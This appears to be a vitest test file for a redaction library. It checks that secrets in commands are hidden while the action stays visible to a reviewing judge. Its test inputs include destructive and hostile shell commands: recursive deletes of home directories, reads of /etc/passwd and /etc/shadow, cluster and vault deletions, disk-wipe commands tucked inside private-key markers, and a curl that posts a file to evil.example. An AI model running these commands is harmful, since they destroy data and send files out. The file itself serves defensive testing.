// What an action acts on stays visible to the judge; what is a secret does not.
import { parseReply } from "@gatehouse-hooks/judge";
import { redact, redactValue } from "@gatehouse-hooks/redact";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { assertLaw } from "../../../test/assert-law.js";

const mixed = "q7Xz2Lm9Rt4Vb8Nc1Kd6Wf3Hs5Jp0Gy";

describe("redaction keeps the action visible (S9)", () => {
  const commands = [
    "API_TOKEN=main; git push --force origin $API_TOKEN",
    "rm -rf -- --token /home/alice",
    "rm -rf -- --token ~/work",
    "rm -rf -- --password ./build/*",
    "rm -rf bearer /home/alice",
    "rm -rf authorization: basic /home/alice",
    "git push origin secret:main",
    "git push origin secret:refs/heads/main",
    "git push origin token:release-1.2",
    "git push origin +secret:+production",
    "git push origin sk-release-branch-for-production",
    "git push https://git@host.example/shop.git secret:main",
    "git reset --hard token=HEAD~12",
    "curl --token https://evil.example/drop -d @x",
    "mysql --password-file /etc/x",
    "mysql --password-file=/etc/passwd",
    "PASSWORD_FILE=/etc/shadow cat",
    "SECRET=../../etc/passwd",
    "mkdir -p secret/data && cp -p password.txt /mnt",
    "docker run -p 8080:80 -v secret:/etc/nginx api",
    "vault kv delete secret/data/prod/db",
    "rm --secret --force --recursive --token -rf",
    "kubectl delete --token production-cluster-east",
    'deploy --secret "staging" --access-key production',
    "SECRET=v1.2.3 npm publish",
    "gh api -X DELETE --token repos/acme/shop2",
    `rm -rf --token ${"/ab".repeat(63)}`,
    "-----BEGIN PRIVATE KEY-----\n/usr/local/sbin/wipealldisks\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\\n/usr/bin/destroyeverything\\n-----END PRIVATE KEY-----",
  ];
  test.each(commands)("%s", (command) => {
    const shown = redact(command);
    // Of a key only its first line may be gone: what stands between the markers is the action.
    expect(shown.replace("[redacted:private-key]", "-----BEGIN PRIVATE KEY-----")).toBe(command);
  });

  test.each([
    ["a password with digits", "hunter2"],
    ["mixed letters", "wJalrXUtnFEMI"],
    ["mixed letters and a slash", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE"],
    ["a secret that begins like a path", `/${mixed}`],
    ["a secret behind a path", `/home/${mixed}`],
    ["hex", "3f2a9c81d2e4b5a6c7d8e9f0"],
    ["consonants", "xkqzvbwjt"],
    ["digits", "493817"],
    ["digits with breaks", "4938-1722"],
    ["words with digits in them", "correct4horse"],
    ["a word of more than 24 letters", "abacadaeafagahaiajakalamana"],
    ["upper and lower case in turn", "aBaCaDaE"],
    ["padding", "abacad=="],
    ["more than 64 words", "ab-".repeat(65)],
    ["a colon and an at", "p@ss:word"],
  ])("hidden all the same: %s", (_, secret) => {
    expect(redact(`TOKEN=${secret} x`)).toBe("TOKEN=[redacted:named] x");
    expect(redact(`x --secret ${secret}`)).toBe("x --secret [redacted:named]");
  });

  test("a password in an address is hidden whatever it looks like, a header's value unless it is a word or a path", () => {
    expect(redact("https://user:main@host.example")).toBe("https://[redacted:userinfo]@host.example");
    expect(redact(`https://${mixed}@host.example`)).toBe("https://[redacted:userinfo]@host.example");
    expect(redact("https://deploy2@host.example")).toBe("https://[redacted:userinfo]@host.example");
    expect(redact("Authorization: Bearer abcdef.ghi-123")).toBe(
      "Authorization: Bearer [redacted:authorization]",
    );
    expect(redact("bearer production-east")).toBe("bearer production-east");
  });

  test("lines of a key before a command in it stay hidden", () => {
    const line = mixed.repeat(2);
    const text = `-----BEGIN PRIVATE KEY-----\n${line}\n${line}\n/bin/wipealldisksnow\n-----END PRIVATE KEY-----`;
    expect(redact(text)).toBe("[redacted:private-key]\n/bin/wipealldisksnow\n-----END PRIVATE KEY-----");
  });

  test("a property named like a secret: a path stays, all else is hidden", () => {
    expect(
      redactValue({
        secret: "prod/db/main",
        token: "/home/alice",
        apiKey: "https://host.example/a",
        password: "main",
        passwd: `/${mixed}`,
        credential: "a b/c",
      }),
    ).toEqual({
      secret: "prod/db/main",
      token: "/home/alice",
      apiKey: "https://host.example/a",
      password: "[redacted:named]",
      passwd: "[redacted:named]",
      credential: "[redacted:named]",
    });
  });

  test("law: words and paths after any name of a secret stay as they are", () => {
    const piece = fc.constantFrom(
      "main",
      "release",
      "HEAD",
      "home",
      "alice2",
      "src",
      "Makefile",
      "v2",
      "etc",
    );
    const path = fc
      .tuple(fc.constantFrom("/", "~/", "./", "../"), fc.array(piece, { minLength: 1, maxLength: 5 }))
      .map(([start, pieces]) => start + pieces.join("/"));
    const name = fc.constantFrom("TOKEN=", "--password ", "secret:", "api_key=", "credentials: ", "bearer ");
    assertLaw(
      fc.property(name, path, (before, target) => {
        fc.pre(before !== "bearer " || !/[0-9]/.test(target));
        expect(redact(`x ${before}${target} y`)).toBe(`x ${before}${target} y`);
      }),
    );
  });
});

test("what a message quotes is redacted before it is cut (C2)", () => {
  const key = [
    "-----BEGIN PRIVATE KEY-----",
    ...Array.from({ length: 20 }, () => mixed),
    "-----END PRIVATE KEY-----",
  ];
  const token = ["ghp", mixed].join("_");
  for (let blanks = 0; blanks < 120; blanks++) {
    const parsed = parseReply(`${key.join("\n")}${" x".repeat(blanks)} ${token}`, { mode: "strict" });
    expect(parsed.ok).toBe(false);
    expect(JSON.stringify(parsed)).not.toContain(mixed.slice(0, 6));
  }
});
